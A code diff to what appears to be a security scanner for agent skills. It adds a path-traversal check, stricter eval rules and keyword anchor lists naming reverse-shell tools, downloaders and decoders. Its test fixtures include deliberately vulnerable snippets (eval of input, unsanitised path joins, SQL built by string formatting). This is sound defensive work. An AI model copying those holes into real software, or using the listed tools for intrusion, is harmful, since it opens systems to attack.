@@ -652,8 +652,8 @@ function definitionsOf(text: string, language: string): Definition[] {
   return defs;
 }
 
-/** Parameter names of the function enclosing `index` (nearest definition above it, within 6000 characters). */
-function enclosingParameters(text: string, index: number, language: string): string[] {
+/** The definition enclosing `index` (nearest above it, within 6000 characters) and where the next one starts. */
+function enclosingDefinition(text: string, index: number, language: string): { def: Definition; end: number } | null {
   const defs = definitionsOf(text, language);
   let lo = 0;
   let hi = defs.length;
@@ -663,7 +663,14 @@ function enclosingParameters(text: string, index: number, language: string): str
     else hi = mid;
   }
   const def = defs[lo - 1];
-  return def && index - def.index <= 6000 ? def.params : [];
+  if (!def || index - def.index > 6000) return null;
+  const next = defs[lo];
+  return { def, end: Math.min(next ? next.index : text.length, def.index + 6000) };
+}
+
+/** Parameter names of the function enclosing `index` (nearest definition above it, within 6000 characters). */
+function enclosingParameters(text: string, index: number, language: string): string[] {
+  return enclosingDefinition(text, index, language)?.def.params ?? [];
 }
 
 type Interpolation = 'none' | 'variable' | 'environment' | 'interpolated' | 'caller-input';
@@ -762,9 +769,18 @@ function detectDynamicEval(file: FileView): RuleMatch[] {
     // payloads are RCE-03's.
     if (isInterpolated(code) || DECODE_CALL.test(code) || NETWORK_READ.test(code)) return null;
     const kind = classifyArgument(code, text, m.index, file.language);
-    if (kind === 'none') return null;
-    const severity: Severity = kind === 'caller-input' ? 'high' : 'medium';
-    const what = kind === 'caller-input' ? 'evaluates input passed in by its caller' : 'evaluates code held in a variable';
+    // eval/exec/new Function in Python or JavaScript has no use in a skill that a parser or a plain
+    // call would not serve: even a constant string is a slot a later edit turns into a payload, and
+    // it hides the code from linters and reviewers. vm.* and other languages keep the graded view.
+    const plainEval = (file.language === 'python' || file.language === 'js') && /^(?:eval|exec|Function)$/.test(name);
+    if (kind === 'none' && !plainEval) return null;
+    const severity: Severity = kind === 'caller-input' || plainEval ? 'high' : 'medium';
+    const what =
+      kind === 'caller-input'
+        ? 'evaluates input passed in by its caller'
+        : kind === 'none'
+          ? 'evaluates a constant string (no legitimate use; it hides code and invites a payload)'
+          : 'evaluates code held in a variable';
     return { index: m.index, length: m[0].length, severity: inCodeFile(file, severity), message: `${name}() ${what}` };
   });
 }
@@ -1034,6 +1050,54 @@ const SQL_INTERPOLATED =
   /(?:\b[fF]["']|["'`])\s*(?:SELECT|INSERT\s+INTO|UPDATE|DELETE\s+FROM|DROP|CREATE|ALTER|REPLACE\s+INTO|MERGE)\b[^\n]{0,200}?(?:\{[A-Za-z_][\w.\[\]'"]*\}|\$\{[^}\n]+\}|["']\s*(?:\+|%)\s*[A-Za-z_(]|%s\b[^"'\n]*["']\s*%)/g;
 const SQL_SINK = /\.\s*(?:execute|executemany|executescript|exec|query|raw|run|all|get|prepare)\s*\(/;
 
+// Path traversal: a function joins its caller's value onto a fixed absolute folder (or formats it
+// into an absolute path) and opens the result without normalising and containing it, so "../.."
+// reads any file. Only fixed absolute bases count: a CLI opening the path its user typed, or a
+// script loading its own templates next to __file__, is not serving files to someone else.
+const PY_PATH_JOIN = /\bos\.path\.join\s*\(/g;
+const PY_FSTRING_PATH = /\b[fF]["']((?:\/|~\/)[^"'\n{]{0,200})\{([A-Za-z_]\w*)\}/g;
+const ABSOLUTE_LITERAL = /^\s*[rRuU]?["'](?:\/|~\/|[A-Za-z]:\\)[^"'\n]*["']\s*$/;
+const PATH_CONTAINMENT =
+  /\b(?:realpath|abspath|resolve|normpath|commonpath|commonprefix|is_relative_to|relative_to|startswith|basename|secure_filename|safe_join)\b|["']\.\.["']\s*(?:not\s+)?in\b/;
+const FILE_OPEN = /\bopen\s*\(|\.read_(?:text|bytes)\s*\(|\bsend_file\s*\(|\bFileResponse\s*\(|\bsend_from_directory\s*\(/;
+
+/** True when `expr` is an absolute path literal, or a name assigned one in the file. */
+function isFixedAbsoluteBase(expr: string, text: string): boolean {
+  if (ABSOLUTE_LITERAL.test(expr)) return true;
+  const name = expr.trim();
+  if (!/^[A-Za-z_]\w*$/.test(name)) return false;
+  const assigned = new RegExp(`^[ \\t]*${name}\\s*(?::\\s*str\\s*)?=\\s*([^\\n]{1,300})$`, 'm').exec(text);
+  return !!assigned && ABSOLUTE_LITERAL.test(assigned[1].replace(/\s*#.*$/, ''));
+}
+
+function detectPathTraversal(file: FileView): RuleMatch[] {
+  const text = file.text;
+  const found: RuleMatch[] = [];
+  const report = (index: number, length: number, param: string): RuleMatch | null => {
+    if (isCommentLine(file, index)) return null;
+    const scope = enclosingDefinition(text, index, 'python');
+    if (!scope || !scope.def.params.includes(param)) return null;
+    const body = text.slice(scope.def.index, scope.end);
+    if (!FILE_OPEN.test(body) || PATH_CONTAINMENT.test(body)) return null;
+    return {
+      index,
+      length,
+      severity: inCodeFile(file, 'high'),
+      message: `File path built from the caller's "${param}" under a fixed folder and opened without normalising or containing it (path traversal: "../" escapes the folder)`,
+    };
+  };
+  found.push(
+    ...scan(text, PY_PATH_JOIN, (m) => {
+      const parts = splitArguments(callArguments(text, m.index + m[0].length - 1));
+      if (parts.length < 2 || !isFixedAbsoluteBase(parts[0], text)) return null;
+      const param = parts.slice(1).map((p) => p.trim()).find((p) => /^[A-Za-z_]\w*$/.test(p));
+      return param ? report(m.index, m[0].length, param) : null;
+    }),
+    ...scan(text, PY_FSTRING_PATH, (m) => report(m.index, m[0].length, m[2])),
+  );
+  return found;
+}
+
 function detectInjectionTemplates(file: FileView): RuleMatch[] {
   if (skipFile(file)) return [];
   const text = file.text;
@@ -1089,6 +1153,7 @@ function detectInjectionTemplates(file: FileView): RuleMatch[] {
       );
     }
   }
+  if (file.kind === 'script' && file.language === 'python') found.push(...detectPathTraversal(file));
   if (file.kind === 'script' && SQL_SINK.test(text)) {
     found.push(
       ...scan(text, SQL_INTERPOLATED, (m) => {
@@ -1151,6 +1216,7 @@ export const rules: Rule[] = [
     why: 'curl | sh runs whatever the server sends at that moment, unreviewed and unpinned; a compromised or malicious host gets code execution on the user\'s machine.',
     fix: 'Download the installer, verify its checksum or signature, review it, then run the local file; or use a package manager.',
     scopes: ALL_TEXT,
+    anchors: ['curl', 'wget', 'iwr', 'irm', 'invoke-webrequest', 'invoke-restmethod', 'webclient'],
     negatable: false,
     examples: {
       match: [
@@ -1175,6 +1241,7 @@ export const rules: Rule[] = [
     why: 'Downloading a program and running it in the next step is how droppers install malware; the file is never reviewed and can change at any time.',
     fix: 'Ship the tool with the skill or install it from a package manager with a pinned version and a checksum check.',
     scopes: ALL_TEXT,
+    anchors: ['curl', 'wget', 'iwr', 'invoke-webrequest', 'certutil', 'bitsadmin', 'urlretrieve', 'http'],
     negatable: false,
     examples: {
       match: [
@@ -1198,6 +1265,7 @@ export const rules: Rule[] = [
     why: 'Decoding base64/hex and executing the result hides the real command from the reader and from reviewers; legitimate skills have no reason to do it.',
     fix: 'Write the command in plain text so it can be reviewed, or remove it.',
     scopes: ALL_TEXT,
+    anchors: ['base64', 'base32', 'xxd', 'openssl', 'uudecode', 'codecs', 'zlib', 'marshal', 'binascii', 'bz2', 'lzma', 'gzip', 'fromhex', 'atob', 'unescape', 'decodeuricomponent', 'buffer', 'powershell', 'pwsh', 'decode', 'unhexlify', 'decompress'],
     negatable: false,
     examples: {
       match: [
@@ -1221,6 +1289,7 @@ export const rules: Rule[] = [
     why: 'Wiring a shell to a network socket hands interactive control of the machine to whoever is on the other end.',
     fix: 'Remove it. Remote debugging should use the tool\'s own authenticated protocol bound to localhost.',
     scopes: ALL_TEXT,
+    anchors: ['dev/tcp', 'dev/udp', 'nc ', 'nc\t', 'nc.', 'nc|', 'ncat', 'netcat', 'mkfifo', 'socat', 'telnet', 'dup2', 'fsockopen', 'tcpsocket', 'socket::inet', 'tcpclient', 'child_process'],
     negatable: false,
     examples: {
       match: [
@@ -1244,16 +1313,18 @@ export const rules: Rule[] = [
     why: 'eval/exec/new Function run whatever string reaches them; when that string comes from input, files or the network it is arbitrary code execution.',
     fix: 'Parse the data instead (ast.literal_eval, JSON.parse, a small expression parser) or dispatch to a fixed set of functions.',
     scopes: ['script'],
+    anchors: ['eval', 'exec', 'function', 'vm.', 'settimeout', 'setinterval', 'assert', 'preg_replace'],
     examples: {
       match: [
         { path: 'scripts/calc.py', text: 'def calculate(expression):\n    return eval(expression)\n' },
         { path: 'scripts/run.js', text: 'const fn = new Function("a", body);\n' },
         { path: 'scripts/load.py', text: 'import sys\ncode = sys.stdin.read()\nexec(sys.argv[1])\n' },
+        { path: 'scripts/analyze.py', text: 'def analyze(path):\n    result = eval("1 + 1")\n    return result\n' },
       ],
       noMatch: [
         { path: 'scripts/parse.js', text: 'const m = /(\\d+)-(\\d+)/.exec(line);\nconst rows = db.exec("SELECT 1");\n' },
         { path: 'scripts/c.py', text: 'import re\npattern = re.compile(r"\\d+")\nvalue = ast.literal_eval(text)\n' },
-        { path: 'scripts/k.py', text: '# never call eval(user_input)\nresult = eval("1 + 1")\n' },
+        { path: 'scripts/k.py', text: '# never call eval(user_input)\nvalue = ast.literal_eval("[1, 2]")\n' },
       ],
     },
     detect: detectDynamicEval,
@@ -1266,6 +1337,7 @@ export const rules: Rule[] = [
     why: 'os.system, os.popen and subprocess with shell=True pass the string to /bin/sh; interpolated values containing ; or $( ) become extra commands.',
     fix: 'Call subprocess.run with a list of arguments and shell=False; validate values that end up in arguments.',
     scopes: ['script'],
+    anchors: ['system', 'popen', 'subprocess', 'getoutput'],
     examples: {
       match: [
         { path: 'scripts/dns.py', text: 'import os\nos.popen(f"dig {encoded}.example.net")\n' },
@@ -1309,6 +1381,7 @@ export const rules: Rule[] = [
     why: 'A skill that downloads code or instructions when it runs can change behaviour after review; whoever controls the URL controls the agent.',
     fix: 'Ship the code and instructions with the skill; if updates are needed, publish a new reviewed version.',
     scopes: ALL_TEXT,
+    anchors: ['http', 'exec', 'eval', 'function'],
     negatable: false,
     examples: {
       match: [
@@ -1332,6 +1405,7 @@ export const rules: Rule[] = [
     why: 'pickle, marshal, yaml.load, torch.load and similar loaders run code embedded in the data; untrusted files or responses become code execution.',
     fix: 'Use JSON or yaml.safe_load; for models use safetensors or torch.load(weights_only=True); never unpickle data you did not produce.',
     scopes: ['script'],
+    anchors: ['pickle', 'dill', 'joblib', 'shelve', 'marshal', 'yaml', 'torch', 'trust_remote_code', 'unserialize', 'objectinputstream'],
     examples: {
       match: [
         { path: 'scripts/load.py', text: 'import pickle\nmodel = pickle.load(open(path, "rb"))\n' },
@@ -1353,6 +1427,7 @@ export const rules: Rule[] = [
     why: 'Splicing user or model text into eval, sh -c or SQL lets crafted input (or a prompt injection upstream) run extra commands or queries.',
     fix: 'Pass values as separate arguments or bound query parameters; never build code or commands by string formatting.',
     scopes: ['skill-md', 'markdown', 'script'],
+    anchors: ['eval', 'exec', 'sh ', 'sh\t', 'system', 'popen', 'subprocess', 'function', 'vm.', 'settimeout', 'setinterval', 'assert', 'preg_replace', 'select', 'insert', 'update', 'delete', 'drop', 'create', 'alter', 'replace', 'merge', 'open', 'read_text', 'read_bytes', 'send_file', 'fileresponse', 'send_from_directory'],
     negatable: false,
     examples: {
       match: [
@@ -1360,11 +1435,15 @@ export const rules: Rule[] = [
         { path: 'scripts/q.py', text: 'def search(term):\n    query = f"SELECT * FROM users WHERE name LIKE \'%{term}%\'"\n    return conn.execute(query)\n' },
         { path: 'scripts/run.sh', text: '#!/bin/sh\neval "$1"\n' },
         { path: 'scripts/f.py', text: 'def process(formula, variables):\n    exec(f"{formula} = {variables}")\n' },
+        { path: 'scripts/read.py', text: 'import os\nDOCS = "/srv/docs"\ndef read_doc(name):\n    path = os.path.join(DOCS, name)\n    with open(path) as f:\n        return f.read()\n' },
+        { path: 'scripts/cfg.py', text: 'def load_config(config_name):\n    return open(f"/etc/app/{config_name}").read()\n' },
       ],
       noMatch: [
         { path: 'scripts/q.py', text: 'cur.execute("SELECT * FROM users WHERE id = ?", (user_id,))\n' },
         'Run `git log --oneline {branch}` to list the commits of the branch.',
         { path: 'scripts/env.sh', text: '#!/bin/sh\neval "$(fnm env --use-on-cd)"\n' },
+        { path: 'scripts/cat.py', text: 'import argparse\nparser = argparse.ArgumentParser()\nparser.add_argument("file")\nargs = parser.parse_args()\nwith open(args.file) as f:\n    print(f.read())\n' },
+        { path: 'scripts/serve.py', text: 'import os\nBASE = "/srv/docs"\ndef read_doc(name):\n    path = os.path.realpath(os.path.join(BASE, name))\n    if not path.startswith(BASE + os.sep):\n        raise ValueError(name)\n    return open(path).read()\n' },
       ],
     },
     detect: detectInjectionTemplates,
@@ -1377,6 +1456,7 @@ export const rules: Rule[] = [
     why: 'These constructs run programs that are not named in the command itself, which hides what actually executes.',
     fix: 'Name the program and its arguments explicitly; do not run files straight out of downloaded archives.',
     scopes: ALL_TEXT,
+    anchors: ['find', 'xargs', 'unzip', 'tar', '7z ', '7z\t', 'gunzip', 'bsdtar', 'ld_preload', 'dyld_insert', 'mshta', 'rundll32', 'regsvr32', 'certutil', 'bitsadmin', 'wmic'],
     negatable: false,
     examples: {
       match: [
